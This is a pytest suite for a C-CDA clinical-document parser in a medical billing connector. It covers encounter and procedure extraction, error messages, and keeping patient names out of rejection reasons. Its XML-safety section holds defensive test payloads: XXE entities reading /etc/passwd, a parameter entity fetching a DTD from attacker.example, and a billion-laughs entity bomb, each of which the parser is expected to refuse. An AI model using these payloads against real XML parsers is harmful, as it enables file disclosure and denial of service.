"""C-CDA parser: corpus values, procedures, visit notes, XML attacks, errors, no PHI in reasons."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.ehr import ccda, get_parser
from connectors.ehr.base import ParseError
from core.model import Encounter, Rejected, standardize

DATA = Path(__file__).resolve().parent.parent / "data" / "ccda"
CPT = "2.16.840.1.113883.6.12"
SCT = "2.16.840.1.113883.6.96"
ICD10 = "2.16.840.1.113883.6.90"


def run(data: bytes, **options: Any) -> list[Any]:
    return ccda.parse(data, name="doc.xml", options=options)


def corpus(name: str, **options: Any) -> list[Any]:
    return run((DATA / name).read_bytes(), **options)


def encounters(out: list[Any]) -> list[Encounter]:
    return [p for p in out if isinstance(p, Encounter)]


def doc(body: str = "", *, family: str = "Doe", template: str = "2.16.840.1.113883.10.20.22.1.2",
        header: str = "") -> bytes:
    """A minimal C-CDA with one patient; ``body`` is the content of structuredBody."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <templateId root="{template}"/>
  <id root="1.2.3.4" extension="doc-1"/>
  <recordTarget><patientRole>
    <id root="2.16.840.1.113883.4.1" extension="123-45-6789"/>
    <id root="1.2.3.99" extension="MRN-5"/>
    <addr use="HP"><streetAddressLine>1 Elm St</streetAddressLine><city>Salem</city><state>OR</state>
      <postalCode>97301</postalCode></addr>
    <telecom use="HP" value="tel:+1(503)555-0100"/>
    <patient><name use="L"><given>Ann</given><given qualifier="CL">Annie</given><family>{family}</family></name>
      <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/><birthTime value="19700102"/></patient>
  </patientRole></recordTarget>
  <custodian><assignedCustodian><representedCustodianOrganization>
    <id root="1.2.3.5" extension="clinic"/><name>Clinic</name>
  </representedCustodianOrganization></assignedCustodian></custodian>
  {header}
  <component><structuredBody>{body}</structuredBody></component>
</ClinicalDocument>""".encode()


def encounters_section(*entries: str) -> str:
    inner = "".join(f"<entry>{e}</entry>" for e in entries)
    return f"""<component><section><templateId root="2.16.840.1.113883.10.20.22.2.22.1"/>
      <code code="46240-8" codeSystem="2.16.840.1.113883.6.1"/>{inner}</section></component>"""


def procedures_section(*entries: str) -> str:
    inner = "".join(f"<entry>{e}</entry>" for e in entries)
    return f"""<component><section><code code="47519-4" codeSystem="2.16.840.1.113883.6.1"/>{inner}
      </section></component>"""


def encounter(ext: str = "E1", code: str = "99214", system: str = CPT, when: str = "20240105093000-0500",
              extra: str = "", status: str = "completed", mood: str = "EVN") -> str:
    return f"""<encounter classCode="ENC" moodCode="{mood}"><id root="1.2.3.6" extension="{ext}"/>
      <code code="{code}" codeSystem="{system}"/><statusCode code="{status}"/>
      <effectiveTime><low value="{when}"/></effectiveTime>{extra}</encounter>"""


def procedure(code: str, system: str = CPT, when: str = "20240105", translation: str = "") -> str:
    return f"""<procedure classCode="PROC" moodCode="EVN"><id root="1.2.3.7" extension="P-{code}"/>
      <code code="{code}" codeSystem="{system}">{translation}</code><statusCode code="completed"/>
      <effectiveTime value="{when}"/></procedure>"""


# ---------------------------------------------------------------------------
# Corpus
# ---------------------------------------------------------------------------


def test_registered() -> None:
    assert get_parser("ccda") is ccda and ccda.NAME == "ccda"


def test_ambulatory_ccd_encounter() -> None:
    out = corpus("170.314B2_Amb_CCD.ccda")
    assert len(out) == 1
    enc = out[0]
    assert (enc.source, enc.kind) == ("ccda", "charge")
    assert enc.source_id == "1.3.6.1.4.1.22812.3.99930.3.3.4:5283815"
    assert enc.source_system == "1.3.6.1.4.1.22812.3.99930.3:3"  # custodian organization id
    assert (enc.dos_start, enc.dos_end) == ("20120815090051-0500", "")  # high is nullFlavor=UNK
    assert [(ln.code, ln.code_system) for ln in enc.lines] == [("99231", CPT)]
    assert (enc.rendering.npi, enc.rendering.family, enc.rendering.given) == ("1111111111", "Khan", "Samir")
    assert [(d.code, d.system) for d in enc.diagnoses] == [("203523006", SCT)]  # not the "Active" status value
    p = enc.patient
    assert (p.mrn, p.family, p.given, p.dob, p.sex) == ("110107073916280", "Everyman", "Adam", "19621022", "M")
    assert (p.address.line1, p.address.city, p.address.zip, p.phone) == ("1234 Six Forks", "Portland", "97005",
                                                                         "+1-(555)555-3333")
    assert enc.billing.organization == "Get Well Clinic"
    assert standardize(enc) == []
    assert (enc.dos_start, enc.dos_end, enc.lines[0].code_system, enc.patient.phone) == (
        "2012-08-15", "2012-08-15", "CPT", "(555) 555-3333")


def test_patient1_encounters_and_procedures() -> None:
    encs = encounters(corpus("Patient-1.ccda"))
    assert len(encs) == 8  # 5 encounter activities + 3 dates with CPT procedures and no encounter
    first = encs[0]
    assert [(ln.code, ln.code_system, ln.service_date) for ln in first.lines] == [
        ("99213", CPT, ""), ("97802", CPT, "20100331100000+0500")]  # procedure on the visit date
    assert [(d.code, d.system) for d in first.diagnoses] == [("I25.1", ICD10), ("E11.9", ICD10), ("I10", ICD10)]
    assert [e.lines[0].code for e in encs[:5]] == ["99213", "99281", "99238", "99213", "99213"]
    # the sample reuses one id for every encounter: the date keeps the business keys apart
    assert len({e.business_key for e in encs}) == 8
    assert encs[1].source_id == "2a620155-9d11-439e-92b3-5d9815ff4de8@20100430"
    by_day = {e.dos_start: [ln.code for ln in e.lines] for e in encs[5:]}
    assert by_day == {"20100523": ["76499"], "20100524": ["93543"], "20100730": ["92012"]}
    assert encs[5].source_id == "procedures:998991:20100523"
    assert all(e.patient.mrn == "998991" for e in encs)  # the SSN id is never the MRN
    assert encs[0].source_system == "2.16.840.1.113883.4.6:99999999"
    # SNOMED-only procedures (cardiac monitoring, foot exam) are clinical history, not charges
    assert not any(ln.code in ("23852006", "401191002") for e in encs for ln in e.lines)


def test_ccd_without_encounters_section_groups_procedures_by_date() -> None:
    encs = encounters(corpus("CCD.ccda"))
    assert [(e.dos_start, [(ln.code, ln.code_system) for ln in e.lines]) for e in encs] == [
        ("20141001", [("93000", CPT), ("97802", CPT)]),  # CPT found among the SNOMED code's translations
        ("20141002", [("44970", CPT)]),
    ]
    assert [e.source_id for e in encs] == ["procedures:98765432:20141001", "procedures:98765432:20141002"]
    # the CCD header's encompassingEncounter (99213 in 2005) is not billed
    assert not any(e.dos_start.startswith("2005") for e in encs)


def test_progress_note_bills_its_header_encounter() -> None:
    (enc,) = corpus("Progress_Note.ccda")
    assert (enc.source_id, enc.dos_start, enc.dos_end) == ("2.16.840.1.113883.19:9937012", "20050329", "20050329")
    assert [(ln.code, ln.code_system) for ln in enc.lines] == [("99213", CPT)]
    assert enc.diagnoses == []
    assert enc.patient.middle == ""  # the "call me" given name is not a middle name


def test_problem_list_only_on_request() -> None:
    (enc,) = corpus("Progress_Note.ccda", problem_list_diagnoses=True)
    assert [(d.code, d.system) for d in enc.diagnoses] == [("190389009", SCT), ("195977004", SCT)]
    encs = encounters(corpus("Patient-1.ccda", problem_list_diagnoses=True))
    assert [d.code for d in encs[0].diagnoses] == ["I25.1", "E11.9", "I10"]  # its own diagnoses win
    assert [d.code for d in encs[1].diagnoses] == ["I25.1", "E11.9", "I10", "I21.3"]


# ---------------------------------------------------------------------------
# Synthetic documents
# ---------------------------------------------------------------------------


def test_minimal_document_header_and_lines() -> None:
    dx = f"""<entryRelationship typeCode="SUBJ"><act classCode="ACT" moodCode="EVN">
      <templateId root="2.16.840.1.113883.10.20.22.4.80"/><entryRelationship typeCode="SUBJ">
      <observation classCode="OBS" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.4"/>
      <value xsi:type="CD" code="44054006" codeSystem="{SCT}"><translation code="E11.9" codeSystem="{ICD10}"/>
      </value></observation></entryRelationship></act></entryRelationship>
      <performer><assignedEntity><id root="2.16.840.1.113883.4.6" extension="1234567893"/>
      <assignedPerson><name><given>Jo</given><family>Smith</family></name></assignedPerson></assignedEntity></performer>"""
    body = encounters_section(encounter(extra=dx), encounter("E2", code="185349003", system=SCT, when="20240106"),
                              encounter("E3", mood="INT"), encounter("E4", status="cancelled"))
    body += procedures_section(procedure("36415"), procedure("G0008", "2.16.840.1.113883.6.285"),
                               procedure("99214"),  # same as the encounter code: not billed twice
                               procedure("80053", when="20240107"), procedure("38341003", SCT))
    out = run(doc(body))
    encs = encounters(out)
    assert [e.source_id for e in encs] == ["1.2.3.6:E1", "1.2.3.6:E2", "procedures:MRN-5:20240107"]
    first = encs[0]
    assert [(ln.code, ln.code_system) for ln in first.lines] == [
        ("99214", CPT), ("36415", CPT), ("G0008", "2.16.840.1.113883.6.285")]
    assert [(d.code, d.system) for d in first.diagnoses] == [("E11.9", ICD10)]  # ICD-10-CM translation preferred
    assert (first.rendering.npi, first.rendering.family) == ("1234567893", "Smith")
    assert (first.patient.mrn, first.patient.given, first.patient.middle) == ("MRN-5", "Ann", "")
    assert first.source_system == "1.2.3.5:clinic"
    # a non-CPT encounter code is kept with its OID so validation can flag it
    assert [(ln.code, ln.code_system) for ln in encs[1].lines] == [("185349003", SCT)]
    assert [r.part for r in out if isinstance(r, Rejected)] == ["Encounters section entry[3]"]


def test_procedure_without_date_is_rejected() -> None:
    body = procedures_section(procedure("36415", when=""), procedure("93000"))
    out = run(doc(body))
    rej = [p for p in out if isinstance(p, Rejected)]
    assert [r.part for r in rej] == ["Procedures section entry[0]"]
    assert "no date of service" in rej[0].reason
    assert [ln.code for ln in encounters(out)[0].lines] == ["93000"]


def test_nothing_to_bill() -> None:
    with pytest.raises(ParseError) as info:
        run(doc())
    assert str(info.value) == ccda.NOTHING_TO_BILL
    assert str(info.value) == "C-CDA document has no Encounters or Procedures section entries; nothing to bill"
    with pytest.raises(ParseError, match="none of its Procedures carries a CPT or HCPCS code"):
        run(doc(procedures_section(procedure("38341003", SCT))))


# ---------------------------------------------------------------------------
# XML safety and whole-document errors
# ---------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>"""

PARAM_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "file:///etc/passwd">
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>"""


@pytest.mark.parametrize("data", [XXE, PARAM_XXE, EXTERNAL_DTD], ids=["entity", "parameter-entity", "external-dtd"])
def test_external_entities_refused(data: bytes) -> None:
    with pytest.raises(ParseError) as info:
        run(data)
    assert str(info.value) == ccda.DTD_REFUSED
    assert str(info.value).startswith("XML document declares a DTD or entities, which ChargeBridge refuses")
    assert "root:" not in str(info.value)  # /etc/passwd content never appears


@pytest.mark.timeout(5)
def test_billion_laughs_refused_instantly() -> None:
    started = time.perf_counter()
    with pytest.raises(ParseError) as info:
        run(LAUGHS)
    assert time.perf_counter() - started < 0.5
    assert str(info.value) == ccda.DTD_REFUSED
    assert "lollol" not in str(info.value)


def test_doctype_refused_even_in_a_real_document() -> None:
    data = (DATA / "CCD.ccda").read_bytes().replace(
        b"<ClinicalDocument", b"<!DOCTYPE ClinicalDocument>\n<ClinicalDocument", 1)
    with pytest.raises(ParseError, match="declares a DTD"):
        run(data)


def test_malformed_xml_reports_position_not_content() -> None:
    data = (DATA / "Patient-1.ccda").read_bytes()
    cut = data[: data.index(b"<family") + 30]  # truncated inside the patient's name
    with pytest.raises(ParseError) as info:
        run(cut)
    assert "not well-formed XML (error at line" in str(info.value) and ", column " in str(info.value)
    assert "Crawford" not in str(info.value)
    with pytest.raises(ParseError, match=r"line 1, column \d+"):
        run(b"<ClinicalDocument xmlns='urn:hl7-org:v3'><a></b></ClinicalDocument>")


@pytest.mark.parametrize("data, pattern", [
    (b"", "file is empty"),
    (b"  \r\n", "file is empty"),
    (b"<html><body>Doe</body></html>", r"root element is not an HL7 CDA <ClinicalDocument>"),
    (b'<Bundle xmlns="http://hl7.org/fhir"><type value="batch"/></Bundle>', "FHIR XML, not C-CDA"),
    (b"<ClinicalDocument><id/></ClinicalDocument>", "not in the HL7 v3 namespace"),
    (b'{"resourceType": "Bundle"}', "not well-formed XML"),
])
def test_document_errors(data: bytes, pattern: str) -> None:
    with pytest.raises(ParseError, match=pattern):
        run(data)


FAMILY = st.from_regex(r"Qz[a-z]{4,10}", fullmatch=True)


@settings(max_examples=30, deadline=None, database=None)
@given(family=FAMILY)
def test_reasons_never_contain_the_family_name(family: str) -> None:
    good = doc(encounters_section(encounter(status="cancelled"), encounter(f"{family}-2"))
               + procedures_section(procedure("36415", when=""), procedure("81002", when="20240109")),
               family=family)
    out = run(good)
    assert encounters(out)[0].patient.family == family
    reasons = [r.reason for r in out if isinstance(r, Rejected)] + [r.part for r in out if isinstance(r, Rejected)]
    assert len(reasons) == 4
    broken = [
        doc(family=family),
        doc(procedures_section(procedure("38341003", SCT)), family=family),
        doc(family=family)[:-40],
        doc(family=family).replace(b"<ClinicalDocument", b"<!DOCTYPE x>\n<ClinicalDocument", 1),
        f"<{family}><name>{family}</name></{family}>".encode(),
        f"<Patient><name>{family}</name><".encode(),
    ]
    for data in broken:
        with pytest.raises(ParseError) as info:
            run(data)
        reasons.append(str(info.value))
    assert not [r for r in reasons if family in r]


def test_only_cancelled_encounters_are_reported_not_an_error() -> None:
    out = run(doc(encounters_section(encounter(status="cancelled"))))
    assert [type(p) for p in out] == [Rejected]
    assert out[0].part == "Encounters section entry[0]"
